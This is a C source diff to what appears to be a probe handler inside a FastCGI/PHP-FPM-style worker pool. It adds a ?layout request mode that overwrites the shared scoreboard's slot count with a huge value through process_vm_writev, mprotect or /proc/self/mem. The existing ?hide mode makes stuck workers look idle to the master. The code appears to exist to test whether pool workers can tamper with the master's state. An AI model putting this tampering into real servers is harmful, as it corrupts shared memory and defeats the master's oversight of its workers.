@@ -6,7 +6,9 @@
  * minutes ago: the master would time that worker out
  * (request_terminate_timeout) or trace it.  ?hide instead shows every
  * other busy slot as idle, to shield a stuck sibling from
- * request_terminate_timeout.  Each slot is written every way pool code
+ * request_terminate_timeout.  ?layout instead raises the scoreboard's
+ * slot count, which the master and every child trust for its size
+ * ("forged nslots (how)" or "cannot write nslots: why").  Each slot is written every way pool code
  * could: process_vm_writev, then after mprotect(PROT_WRITE), then through
  * /proc/self/mem.  One line per slot: "forged slot I pid P (how)", or
  * "cannot write slot I pid P: why".
@@ -53,6 +55,31 @@ write_slot(struct sb_slot *s, const struct sb_slot *v)
 	return NULL;
 }
 
+static const char *
+write_word(unsigned *at, unsigned v)
+{
+	struct iovec l = { &v, sizeof(v) }, r = { at, sizeof(v) };
+	uintptr_t page = (uintptr_t)at & ~(uintptr_t)(SB_PAGE - 1);
+	int fd;
+
+	if (process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(v))
+		return "process_vm_writev";
+	if (mprotect((void *)page, SB_PAGE, PROT_READ | PROT_WRITE) == 0 &&
+	    process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(v))
+		return "mprotect";
+	fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
+	if (fd >= 0 && pwrite(fd, &v, sizeof(v), (off_t)(uintptr_t)at) ==
+	    (ssize_t)sizeof(v)) {
+		close(fd);
+		return "/proc/self/mem";
+	}
+	if (fd >= 0)
+		close(fd);
+	return NULL;
+}
+
+static int hide_mode;	/* 2: ?layout */
+
 static void
 forge_region(fpm_request *req, struct scoreboard *sb, unsigned long hi,
     int hide)
@@ -61,6 +88,16 @@ forge_region(fpm_request *req, struct scoreboard *sb, unsigned long hi,
 
 	if (sb->nslots == 0 || need > hi - (unsigned long)sb)
 		return;
+	if (hide_mode == 2) {
+		const char *how = write_word(&sb->nslots, 1U << 28);
+
+		if (how != NULL)
+			fpm_printf(req, "forged nslots (%s)\n", how);
+		else
+			fpm_printf(req, "cannot write nslots: %s\n",
+			    strerror(errno));
+		return;
+	}
 	for (unsigned i = 0; i < sb->nslots; i++) {
 		struct sb_slot *s = &sb->slots[i], v;
 		const char *how;
@@ -132,6 +169,12 @@ fpm_app_handle(fpm_request *req)
 	const char *s = qs ? strstr(qs, "s=") : NULL;
 
 	fpm_header(req, "Content-Type", "text/plain");
+	if (qs != NULL && strstr(qs, "layout") != NULL) {
+		hide_mode = 2;
+		forge(req, 0);
+		hide_mode = 0;
+		return fpm_printf(req, "done\n") < 0 ? -1 : 0;
+	}
 	if (qs != NULL && (strstr(qs, "forge") != NULL ||
 	    strstr(qs, "hide") != NULL)) {
 		forge(req, strstr(qs, "hide") != NULL);
